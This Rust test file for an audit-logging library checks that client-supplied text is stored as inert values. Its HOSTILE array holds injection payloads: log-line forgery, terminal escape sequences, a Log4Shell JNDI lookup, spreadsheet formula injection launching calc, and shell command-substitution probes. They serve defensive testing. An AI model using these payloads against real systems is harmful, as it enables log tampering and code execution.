//! Whatever a client sends to be recorded stays a value: it makes no line of its own, steers no
//! terminal, and is given to nobody as anything but text.

use std::sync::Arc;

use strongroom_audit::view::{View, of};
use strongroom_audit::{Human, Opening, Outcome, Reader, Reason, Target, Who, render};

use crate::house::*;

/// Text that would forge a line, steer a terminal, or run where it is read.
const HOSTILE: [&str; 9] = [
    "x\n{\"v\":1,\"entry\":\"opened\",\"id\":\"01KDYH7VPE0000000000000001\"}",
    "x\r\nallow s3:GetObject * who=root",
    "\",\"verdict\":\"allowed\",\"x\":\"",
    "\u{1b}[2J\u{1b}]0;owned\u{7}",
    "a\u{2028}b\u{2029}c\u{202e}d\u{0}e\u{85}f",
    "${jndi:ldap://198.51.100.7/a}",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "%s%n%x {{7*7}} $(id) `id`",
];

/// An entry whose every free text is that: agent, method, person, label and detail.
async fn recorded(house: &House, text: &str) {
    let mut opening = Opening::new(house.journal.request_id());
    opening.user_agent = Some(text.to_owned());
    opening.method = text.to_owned();
    let provider = "arn:aws:iam::1:x/y".parse().unwrap();
    let human = Some(Human { provider, subject: text.to_owned(), display: Some(text.to_owned()) });
    let mut attempt = house.journal.attempt(opening);
    attempt.identified(Arc::new(Who { human, ..alice() }));
    let mut asked = asked(ReadThing::new("a"), READS);
    asked.target = Target { resource: asked.op.arn(), detail: Some(text.to_owned()) };
    let (_, entry) = attempt.open(asked, || NOW).await.unwrap();
    entry.close(Outcome { code: Some(text.to_owned()), ..Outcome::status(200) });
}

/// corpus: AUD-05
/// oracle: record
#[tokio::test]
async fn what_a_client_says_makes_no_line_of_its_own() {
    let house = House::new();
    for text in HOSTILE {
        recorded(&house, text).await;
    }
    let entries = house.entries().await;
    assert_eq!(entries.len(), HOSTILE.len());
    let reader = Reader::open(&*house.disk).unwrap();
    for index in 0..reader.len() {
        let leaf = String::from_utf8(reader.leaf(index).unwrap()).unwrap();
        assert!(!leaf.chars().any(char::is_control), "{leaf:?}");
    }
    for entry in &entries {
        let steers = |c: char| c.is_control() || ('\u{2028}'..='\u{202e}').contains(&c);
        let line = render::line(entry);
        assert!(line.starts_with("allow s3:GetObject ") && !line.chars().any(steers), "{line:?}");
        assert_eq!(entry.opened.verdict, strongroom_audit::entry::Entrance::Allowed);
        for view in [View::Ocsf, View::Ecs, View::CloudTrail] {
            assert!(!of(entry, view).to_string().chars().any(char::is_control));
        }
    }
    // The twin: a plain text is there as it was sent.
    recorded(&house, "aws-cli/2").await;
    let plain = house.entries().await.pop().unwrap();
    assert_eq!(plain.opened.source.user_agent.as_deref(), Some("aws-cli/2"));
}

/// corpus: AUD-09
/// oracle: record
#[tokio::test]
async fn what_would_run_elsewhere_is_kept_as_text_and_nothing_else() {
    let house = House::new();
    for text in HOSTILE.into_iter().filter(|text| !text.chars().any(char::is_control)) {
        recorded(&house, text).await;
        let entry = house.entries().await.pop().unwrap();
        // Unlike its meaning, its letters are kept: whoever investigates sees what was sent.
        let kept = entry.opened.source.user_agent.clone().unwrap();
        assert_eq!(kept, text);
        let json = entry.to_json();
        let again: serde_json::Value = serde_json::from_str(&json.to_string()).unwrap();
        assert_eq!(again["source"]["user_agent"], text);
        // A line for people begins with our word: no cell of a table begins with theirs.
        assert!(render::line(&entry).starts_with("allow "));
    }
}

/// corpus: AUD-02
/// oracle: record, twin
#[tokio::test]
async fn an_entry_names_whoever_was_identified_and_nobody_else() {
    let house = House::new();
    let nobody = house.attempt().refuse(Reason::UnknownKey, Outcome::status(403)).await.unwrap();
    let mut attempt = house.attempt();
    attempt.identified(Arc::new(Who::anonymous()));
    attempt.refuse(Reason::CredentialMissing, Outcome::status(403)).await.unwrap();
    let known = house.known(&alice());
    known.refuse(Reason::SignatureMismatch, Outcome::status(403)).await.unwrap();
    let open = house.known(&alice()).open(asked(ReadThing::new("a"), READS), || NOW).await;
    open.unwrap().1.close(Outcome::status(200));
    let entries = house.entries().await;
    let who: Vec<Option<&str>> = entries
        .iter()
        .map(|entry| entry.opened.principal.as_ref().map(|principal| principal.kind.as_str()))
        .collect();
    assert_eq!(who, [None, Some("anonymous"), Some("user"), Some("user")]);
    assert_eq!(entries[0].opened.id, nobody.request);
    for entry in &entries[2..] {
        let opened = &entry.opened;
        assert_eq!(opened.principal.as_ref().unwrap().id, "AIDAALICEALICEALICEAL");
        assert_eq!(opened.account, alice().principal.account());
        assert_eq!(
            (opened.credential.as_ref(), opened.how),
            (alice().credential.as_ref(), Some(alice().how))
        );
    }
}
